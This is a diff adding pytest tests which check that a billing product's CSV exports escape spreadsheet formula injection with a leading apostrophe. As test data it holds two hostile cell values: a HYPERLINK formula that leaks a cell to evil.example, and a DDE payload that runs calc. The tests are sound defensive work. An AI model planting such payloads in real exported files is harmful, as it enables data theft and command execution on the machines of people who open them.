@@ -1,0 +1,97 @@
+"""No CSV the product writes runs as a spreadsheet formula: a text cell beginning with =, +, -, @,
+a tab or a carriage return is written with a leading apostrophe; numbers stay numbers
+(usage_pricing.exports.csv_cell, the one rule; the dashboard downloads these same files)."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import timedelta
+
+import pytest
+
+from tests.conftest import AwsWorld
+from usage_pricing.exports import FORMULA_TRIGGERS, csv_cell, csv_text
+
+from .billing_helpers import completed
+from .test_analytics import NOW, Analytics
+
+HOSTILE_VERSION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+HOSTILE_MODEL = "=cmd|' /C calc'!A0"
+
+
+@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
+def test_given_text_beginning_with_a_formula_trigger_when_written_then_it_gets_a_leading_apostrophe(
+    trigger: str,
+) -> None:
+    text = csv_text(["name", "count"], [[f"{trigger}1+1", 3]])
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row == {"name": f"'{trigger}1+1", "count": "3"}
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        (-5_232_498, -5_232_498),
+        (0, 0),
+        ("-0.05", "-0.05"),
+        ("-12", "-12"),
+        ("0.002", "0.002"),
+        ("+5", "'+5"),
+        ("-1e5", "'-1e5"),
+        ("- 5", "'- 5"),
+        ("team_a/flux", "team_a/flux"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_given_numbers_and_harmless_text_when_written_then_they_are_unchanged(
+    cell: object, written: object
+) -> None:
+    assert csv_cell(cell) == written
+
+
+@pytest.fixture
+def world(aws: AwsWorld) -> Analytics:
+    return Analytics(aws)
+
+
+def test_given_a_hostile_version_and_model_when_exported_then_no_cell_is_a_formula(
+    world: Analytics,
+) -> None:
+    resources = [{"name": "gpu0", "type": "gpu", "model": HOSTILE_MODEL, "meter": "llm/micro"}]
+    world.bill(
+        completed(
+            "csv-1",
+            completed_at=NOW - timedelta(hours=1),
+            app_version=HOSTILE_VERSION,
+            resources=resources,
+        )
+    )
+    tasks = world.csv(
+        world.aws.handler("task_cost", "TaskCostFunction"),
+        "/usage/tasks",
+        {"format": "csv", "start": "2026-11-21", "end": "2026-11-23"},
+    )
+    [task] = tasks
+    assert task["app_version"] == "'" + HOSTILE_VERSION
+    assert int(task["charged_microcents"]) == 5_232_498
+    summary = world.csv(world.summary_fn, "/usage/summary", {"format": "csv", "range": "7d"})
+    models = [r for r in summary if r["dimension"] == "model"]
+    assert models == [{"dimension": "model", "value": "'" + HOSTILE_MODEL, "seconds": "600"}]
+    for row in [*tasks, *summary]:
+        for cell in row.values():
+            assert (
+                not cell.startswith(FORMULA_TRIGGERS) or cell.lstrip("-").replace(".", "").isdigit()
+            )
+
+
+def test_given_the_task_list_csv_then_money_columns_stay_integers(world: Analytics) -> None:
+    world.bill(completed("csv-2", completed_at=NOW - timedelta(hours=2)))
+    [task] = world.csv(
+        world.aws.handler("task_cost", "TaskCostFunction"),
+        "/usage/tasks",
+        {"format": "csv", "start": "2026-11-21", "end": "2026-11-23"},
+    )
+    money = {k: v for k, v in task.items() if k.endswith("_microcents")}
+    assert money and all(v.lstrip("-").isdigit() for v in money.values())
